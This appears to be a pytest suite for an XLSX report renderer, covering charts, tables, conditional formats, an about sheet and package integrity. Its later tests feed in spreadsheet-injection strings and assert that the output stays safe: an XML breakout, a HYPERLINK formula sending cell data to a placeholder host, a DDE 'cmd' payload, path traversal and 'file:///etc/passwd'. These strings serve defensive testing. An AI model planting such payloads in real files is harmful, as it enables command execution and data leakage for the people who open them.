"""Charts, tables, conditional formats and the sheet about the report; and the package around them."""

import io
import posixpath
import re
import zipfile
from collections import Counter
from collections.abc import Callable
from contextlib import nullcontext
from datetime import date
from decimal import Decimal
from io import BytesIO
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from rendering.model import Chart, ChartKind, Column, ColumnType, Format, Highlight, Tone, Total

from .support import Rendered, in_python, make

X = Format.XLSX
COLUMNS = [
    Column(key="r", label="Region & <all>"),
    Column(key="d", label="Day", type=ColumnType.DATE),
    Column(
        key="v",
        label="Value",
        type=ColumnType.DECIMAL,
        format="currency:EUR",
        total=Total.SUM,
        data_bar=True,
        highlights=(
            Highlight(when="below", value=Decimal("-0.5"), tone=Tone.BAD),
            Highlight(when="above", value=Decimal(100), tone=Tone.GOOD),
        ),
    ),
    Column(key="s", label="State", highlights=(Highlight(when="equal", value='"late"', tone=Tone.WARNING),)),
    Column(key="u", label="Link", type=ColumnType.URL),
]
ROWS = [
    ["N", date(2026, 1, 1), "10.50", "ok", "https://example.com/?a=1&b=2"],
    ["S", date(2026, 1, 1), "-3", '"late"', None],
    ["N", date(2026, 2, 1), "120", None, "https://example.com/"],
]
CHARTS = (
    Chart(kind=ChartKind.BAR, title="By region & <b>", category="r", values=("v",)),
    Chart(kind=ChartKind.LINE, title="By day", category="d", values=("v",)),
    Chart(kind=ChartKind.PIE, title="Share", category="r", values=("v",)),
)
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_CHART = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"


def everything() -> Rendered:
    return make(X, COLUMNS, ROWS, subtitle="Sub", design={"charts": CHARTS, "excel_table": True}, about=True)


def test_every_part_is_well_formed_typed_and_reachable() -> None:
    made = everything()
    names = made.parts()
    assert len(names) == len(set(names))
    with zipfile.ZipFile(io.BytesIO(made.data)) as archive:
        trees = {name: ET.fromstring(archive.read(name)) for name in names}  # noqa: S314 - our own file
    types = {node.get("PartName"): node.get("ContentType") for node in trees["[Content_Types].xml"]}
    parts = {f"/{name}" for name in names if not name.endswith(".rels") and name != "[Content_Types].xml"}
    assert set(types) - {None} == parts
    reached = set()
    for name in names:
        if not name.endswith(".rels"):
            continue
        folder, file = posixpath.split(posixpath.normpath(name))
        source = posixpath.join(posixpath.dirname(folder), file.removesuffix(".rels"))
        assert source in ("", *names)
        ids = [node.get("Id") for node in trees[name]]
        assert len(ids) == len(set(ids))
        for node in trees[name]:
            if node.get("TargetMode") != "External":
                reached.add(node.get("Target"))
        if source:
            used = {
                value
                for node in trees[source].iter()
                for key, value in node.attrib.items()
                if key.endswith("relationships}id")
            }
            # Styles and shared texts are found by their kind.
            assert used <= set(ids)
    assert reached == parts


def test_charts_stand_beside_their_numbers_and_hold_them() -> None:
    made = everything()
    book = load_workbook(BytesIO(made.data), data_only=True)
    assert book.sheetnames == ["Report", "Charts", "About this report"]
    sheet: Any = book["Charts"]
    assert [[cell.value for cell in row] for row in sheet["A1:B4"]] == [
        ["By region & <b>", None],
        ["Region & <all>", "Value"],
        ["N", 130.5],
        ["S", -3],
    ]
    assert len(sheet._charts) == 3
    # A long title goes on over the cells beside it: a second line would be hidden by the row below.
    assert not sheet["A1"].alignment.wrapText
    assert sheet.page_setup.orientation == "portrait"
    assert [page_break.id for page_break in sheet.row_breaks.brk] == [44]
    chart = ET.fromstring(made.part("xl/charts/chart1.xml"))  # noqa: S314 - our own file
    assert [node.text for node in chart.iter(f"{_CHART}f")] == [
        "'Charts'!$B$2", "'Charts'!$A$3:$A$4", "'Charts'!$B$3:$B$4",
    ]  # fmt: skip
    values = [node.text for node in chart.iter(f"{_CHART}v")]
    assert values == ["Value", "N", "S", "130.5", "-3"]
    line = ET.fromstring(made.part("xl/charts/chart2.xml"))  # noqa: S314 - our own file
    assert [node.text for node in line.iter(f"{_CHART}v")] == ["Value", "1/1/2026", "2/1/2026", "7.5", "120"]


@pytest.mark.parametrize(
    ("kind", "value", "written", "rounded"),
    [
        (ColumnType.DECIMAL, "12345678901234567.89", "1.23456789012346e+16", True),
        (ColumnType.INTEGER, 10**17, "1e+17", False),
        (ColumnType.FLOAT, 0.1 + 0.2, "0.30000000000000004", False),
        (ColumnType.DECIMAL, "1E-310", "0", True),
    ],
)
def test_a_chart_has_numbers_also_where_totals_are_text(
    kind: ColumnType, value: object, written: str, rounded: bool
) -> None:
    column = Column(key="v", label="V", type=kind)
    chart = Chart(kind=ChartKind.BAR, title="C", category="r", values=("v",))
    made = make(X, [COLUMNS[0], column], [["N", value]], design={"charts": (chart,)})
    assert made.cells(2)["B3"].kind == "n"
    assert made.cells(2)["B3"].value == written
    assert f"<c:v>{written}</c:v>" in made.part("xl/charts/chart1.xml")
    assert (("v", "rounded_chart") in made.kinds) is rounded


def test_a_line_of_one_number_has_a_mark() -> None:
    chart = Chart(kind=ChartKind.LINE, title="C", category="r", values=("v",))
    one, two = (make(X, COLUMNS, ROWS[:count], design={"charts": (chart,)}) for count in (1, 2))
    assert '<c:dPt><c:idx val="0"/><c:marker><c:symbol val="circle"/>' in one.part("xl/charts/chart1.xml")
    assert "<c:dPt>" not in two.part("xl/charts/chart1.xml")


def test_a_chart_of_no_rows_is_no_error() -> None:
    made = make(X, COLUMNS, [], design={"charts": CHARTS})
    assert made.workbook().sheetnames == ["Report", "Charts"]


def test_a_table_has_its_rows_filter_and_totals_row() -> None:
    sheet = everything().sheet()
    (table,) = sheet.tables.values()
    assert (table.ref, table.autoFilter.ref, table.totalsRowCount) == ("A4:E8", "A4:E7", 1)
    assert [column.name for column in table.tableColumns] == [column.label for column in COLUMNS]
    assert [cell.value for cell in sheet[4]] == [column.label for column in COLUMNS]
    assert table.tableColumns[2].totalsRowFunction == "sum"
    assert table.tableColumns[0].totalsRowLabel == sheet["A8"].value == "Total"
    assert sheet["C8"].value == "=SUBTOTAL(109,Table1[Value])"
    assert sheet.auto_filter.ref is None


def test_headers_of_a_table_are_unique_and_never_empty() -> None:
    columns = [
        Column(key=str(number), label=label) for number, label in enumerate(["A", "a", "", "A\nb", "x[1]"])
    ]
    made = make(X, columns, [["1"] * 5], design={"excel_table": True})
    names = ["A", "a (2)", "#3", "A\nb", "x[1]"]
    assert [cell.value for cell in made.sheet()[1]] == names
    assert 'name="A_x000a_b"' in made.part("xl/tables/table1.xml")


def test_headers_of_a_table_are_no_longer_than_excel_takes_and_the_names_of_its_columns() -> None:
    labels = ["q" * 255, "Q" * 255, "\U0001f600" * 255, "a\tb", " a  b ", "_x000a_"]
    columns = [Column(key=str(number), label=label) for number, label in enumerate(labels)]
    made = make(X, columns, [["1"] * 6], design={"excel_table": True})
    headers = [unescape(str(cell.value)) for cell in made.sheet()[1]]
    assert headers[:3] == ["q" * 255, "Q" * 250 + "… (2)", "\U0001f600" * 127 + "…"]
    assert headers[3:] == labels[3:]
    table = ET.fromstring(made.part("xl/tables/table1.xml"))  # noqa: S314 - our own file
    names = [column.get("name", "") for column in table.iter(f"{_MAIN}tableColumn")]
    assert [unescape(name) for name in names] == headers


def test_a_reference_to_a_tables_column_escapes_what_has_a_meaning() -> None:
    column = Column(key="v", label="a[1]#'@", type=ColumnType.INTEGER, total=Total.SUM)
    made = make(X, [column], [[1]], design={"excel_table": True})
    assert made.sheet()["A3"].value == "=SUBTOTAL(109,Table1[a'[1']'#'''@])"


def test_a_full_sheet_begins_another_table_and_the_totals_stay_outside() -> None:
    columns = [Column(key="v", label="V", type=ColumnType.INTEGER, total=Total.SUM)]
    made = make(X, columns, [[n] for n in range(6)], max_rows_per_sheet=4, design={"excel_table": True})
    tables = [next(iter(sheet.tables.values())) for sheet in made.workbook().worksheets if sheet.tables]
    assert [(table.name, table.ref) for table in tables] == [("Table1", "A1:A4"), ("Table2", "A1:A4")]
    assert made.sheet(3)["A2"].value == 15


def test_no_table_without_rows_or_with_groups() -> None:
    column = Column(key="v", label="V", type=ColumnType.INTEGER, total=Total.SUM)
    assert not make(X, [column], [], design={"excel_table": True}).sheet().tables
    grouped = make(X, [column], [[1]], group_by=("v",), design={"excel_table": True})
    assert not grouped.sheet().tables


def test_highlights_and_data_bars_are_rules_over_the_rows_alone() -> None:
    rules = everything().sheet().conditional_formatting
    found = {
        str(area.sqref): [(rule.type, list(rule.formula), rule.dxfId) for rule in area.rules]
        for area in rules
    }
    assert found == {
        "C5:C7": [
            ("expression", ["AND(ISNUMBER(C5),C5<-0.5)"], 1),
            ("expression", ["AND(ISNUMBER(C5),C5>100)"], 0),
            ("dataBar", [], None),
        ],
        "D5:D7": [("expression", ['EXACT(D5,"""late""")'], 2)],
    }


def test_highlights_of_dates_and_booleans_compare_with_what_their_cells_hold() -> None:
    columns = [
        Column(
            key="d", label="D", type=ColumnType.DATE,
            highlights=(Highlight(when="not_equal", value="2026-01-01", tone=Tone.BAD),),
        ),
        Column(
            key="b", label="B", type=ColumnType.BOOLEAN,
            highlights=(Highlight(when="equal", value="false", tone=Tone.BAD),),
        ),
        Column(key="t", label="T", highlights=(Highlight(when="not_equal", value="x", tone=Tone.BAD),)),
    ]  # fmt: skip
    rules = make(X, columns, [[date(2026, 1, 1), False, "X"]]).sheet().conditional_formatting
    assert [list(rule.formula) for area in rules for rule in area.rules] == [
        ["AND(ISNUMBER(A2),A2<>46023)"],
        ["AND(ISLOGICAL(B2),B2=FALSE)"],
        ['AND(NOT(ISBLANK(C2)),NOT(EXACT(C2,"x")))'],
    ]


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("a\x01b\ud83d\ufffe", 'EXACT(A2,"ab\ufffd")'),
        ("x" * 255 + '"', 'EXACT(A2,"' + "x" * 255 + '"&"""")'),
        ("", 'EXACT(A2,"")'),
        ("x" * 9000, None),
    ],
)
def test_a_highlight_is_a_formula_that_excel_takes(value: str, formula: str | None) -> None:
    column = Column(key="s", label="S", highlights=(Highlight(when="equal", value=value, tone=Tone.BAD),))
    made = make(X, [column], [[value]])
    sheet = ET.fromstring(made.part("xl/worksheets/sheet1.xml"))  # noqa: S314 - our own file
    rules = [node.text for node in sheet.iter(f"{_MAIN}formula")]
    assert rules == ([] if formula is None else [formula])


@pytest.mark.parametrize("file_format", [X, Format.PDF])
def test_a_charts_title_has_no_character_that_the_format_lacks(file_format: Format) -> None:
    chart = Chart(kind=ChartKind.BAR, title="a\x01b\ud83d\ufffe", category="r", values=("v",))
    made = make(file_format, COLUMNS, ROWS, design={"charts": (chart,)})
    if file_format is X:
        assert made.sheet(2)["A1"].value == "ab\ufffd"
        assert "ab\ufffd" in "".join(ET.fromstring(made.part("xl/charts/chart1.xml")).itertext())  # noqa: S314
    else:
        assert "ab\ufffd" in made.text()


def test_rules_leave_subtotals_out() -> None:
    made = make(X, COLUMNS, ROWS, group_by=("r",))
    areas = [str(area.sqref) for area in made.sheet().conditional_formatting]
    assert areas == ["C2 C4 C6", "D2 D4 D6"]


def test_the_sheet_about_the_report_says_how_it_was_made() -> None:
    made = make(
        X,
        COLUMNS,
        [*ROWS, ["\x00", None, "x", None, "ftp://x"]],
        title="Título",
        about=True,
        locale="pt-BR",
        timezone="America/Sao_Paulo",
        parameters=(("De", "2026-01-01"),),
    )
    sheet = made.workbook().worksheets[-1]
    lines = [[cell.value for cell in row if cell.value is not None] for row in sheet.iter_rows()]
    assert lines[0] == ["Sobre este relatório"]
    assert ["Relatório", "Título"] in lines
    assert ["Criado em", "02/01/2026 00:04:05 (America/Sao_Paulo)"] in lines
    assert ["Idioma", "pt-BR"] in lines
    assert ["Linhas", 4] in lines
    assert lines[lines.index(["Coluna", "Total"]) + 1] == ["Value", 127.5]
    assert ["De", "2026-01-01"] in lines
    assert ["Value", "bad_value", 1, 4, "kept as text: not a decimal number"] in lines
    assert len([line for line in lines if len(line) == 5]) == 1 + len(made.result.warnings)


def test_text_columns_say_that_digits_in_them_are_meant() -> None:
    assert '<ignoredError sqref="A5:A7 D5:D7" numberStoredAsText="1"/>' in everything().part(
        "xl/worksheets/sheet1.xml"
    )


def test_margins_are_in_millimetres() -> None:
    from rendering.model import Page

    made = make(X, COLUMNS, ROWS, page=Page(margin=25.4))
    margins = made.sheet().page_margins
    assert (margins.left, margins.top, margins.header) == (1, 1, 0.5)


def test_rendering_a_workbook_imports_no_library_for_workbooks() -> None:
    import subprocess
    import sys

    script = (
        "import sys\nimport rendering.xlsx\n"
        "assert not {'openpyxl', 'reportlab', 'xlsxwriter'} & set(sys.modules), sorted(sys.modules)"
    )
    subprocess.run([sys.executable, "-c", script], check=True, cwd="lambdas")


#: Texts of one length: one that means nothing to anybody, and others that mean something to XML, to formulas,
#: to escapes of a cell and to paths of a package.
HARMLESS = "abcdefghijklmnopqrstuvwxyz0123456789abcd"
ATTACKS = {
    "xml": """"><c t='e'/></t></si>&lt;]]><!--&#0; -->""",
    "attribute": """' x='1" r:id="rId1" Target="http://e.x/""".ljust(40, "y"),
    "formula": """=HYPERLINK("http://e.example/"&A1,"x")+0""",
    "dde": """@SUM(1+9)*cmd|' /C calc'!A0            y""",
    "path": "../../xl/worksheets/sheet1.xml\\..\\..\\x.x",
    "escape": "_x003C_c_x003E__x0000__x005F_x0041_%3C$(",
}


def with_text(text: str) -> Rendered:
    """A workbook in which ``text`` stands everywhere where a client can put one."""
    columns = [
        Column(key="g", label=text + "g"),
        Column(key="v", label=text + "v", type=ColumnType.DECIMAL, format='0.00" <&\'>"', total=Total.SUM),
        Column(key="s", label=text, highlights=(Highlight(when="equal", value=text, tone=Tone.BAD),)),
        Column(key="u", label=text + "u", type=ColumnType.URL),
        Column(key="d", label=text + "d", type=ColumnType.DATE),
    ]
    rows: list[list[object]] = [[text, 1, text, text, text], [text, text, text, text, text]]
    charts = [Chart(kind=kind, title=text, category="g", values=("v",)) for kind in ChartKind]
    return make(
        X,
        columns,
        rows,
        title=text,
        subtitle=text,
        group_by=("g",),
        design={"charts": tuple(charts), "sheet_by": "g"},
        about=True,
        parameters=((text, text),),
    )


def as_a_table(text: str) -> Rendered:
    columns = [
        Column(key="s", label=text),
        Column(key="v", label=text, type=ColumnType.INTEGER, total=Total.SUM),
    ]
    return make(X, columns, [[text, 1]], title=text, design={"excel_table": True})


#: An element and the names of its attributes.
type Shape = tuple[str, frozenset[str]]
#: Elements whose number no text decides.
_COUNTED = (
    "c",
    "row",
    "f",
    "hyperlink",
    "col",
    "sheet",
    "ser",
    "pt",
    "tableColumn",
    "cfRule",
    "Relationship",
)


def shapes(made: Rendered) -> list[Shape]:
    """Those of every part, which has to be well-formed. ``xml:space`` is for blanks at a text's ends."""
    space = "{http://www.w3.org/XML/1998/namespace}space"
    return [
        (node.tag.rpartition("}")[2], frozenset(node.attrib) - {space})
        for name in made.parts()
        for node in ET.fromstring(made.part(name)).iter()  # noqa: S314 - our own file
    ]


def counted(found: list[Shape]) -> Counter[str]:
    return Counter(tag for tag, names in found if tag in _COUNTED and "sharedStrings" not in names)


@pytest.mark.parametrize("build", [with_text, as_a_table])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_no_text_changes_what_a_workbook_is_made_of(build: Callable[[str], Rendered], attack: str) -> None:
    # Texts of one length that mean nothing, shared by cells or not, with a quote prefix or without.
    harmless = [build(text) for text in (HARMLESS, f"={HARMLESS[1:]}", f"_x0041_{HARMLESS[7:]}")]
    known = {shape for made in harmless for shape in shapes(made)}
    parts = {name for made in harmless for name in made.parts()}
    for native in (nullcontext(), in_python()):
        with native:
            made = build(attack)
        found = shapes(made)
        assert set(found) <= known
        assert set(made.parts()) <= parts
        assert {**counted(found), "Relationship": 0} == {**counted(shapes(harmless[0])), "Relationship": 0}


@pytest.mark.parametrize("build", [with_text, as_a_table])
@pytest.mark.parametrize("attack", [ATTACKS["formula"], ATTACKS["dde"], "=1+1", "+1", "-1+2", "@a", "\t=1"])
def test_the_only_formulas_of_a_workbook_are_its_totals(
    build: Callable[[str], Rendered], attack: str
) -> None:
    made = build(attack)
    book = load_workbook(BytesIO(made.data))
    formulas = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas
    for formula in formulas:
        # A label in it is one between the brackets of a table's column, with ' before what has a meaning.
        assert re.fullmatch(
            r"=SUBTOTAL\(\d+,([A-Z]+\d+:[A-Z]+\d+|Table1\[([^\[\]'#@]|'.)+\])\)", str(formula)
        )
    texts = [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
        if isinstance(cell.value, str) and attack.strip() in cell.value and cell.data_type != "f"
    ]  # fmt: skip
    assert len(texts) >= 3
    assert not book.defined_names


def test_no_part_points_outside_the_workbook_but_for_links_of_url_columns() -> None:
    texts = [
        *ATTACKS.values(),
        "file:///etc/passwd",
        "\\\\host\\share",
        "javascript:alert(1)",
        "ftp://h/",
        "data:,x",
    ]
    columns = [Column(key="u", label="U", type=ColumnType.URL), Column(key="s", label="S")]
    rows = [[text, text] for text in [*texts, "https://e.example/"]]
    made = make(X, columns, rows, title="file:///etc/passwd")
    external = [
        node.get("Target")
        for name in made.parts()
        if name.endswith(".rels")
        for node in ET.fromstring(made.part(name))  # noqa: S314 - our own file
        if node.get("TargetMode") == "External"
    ]
    assert external == ["https://e.example/"]
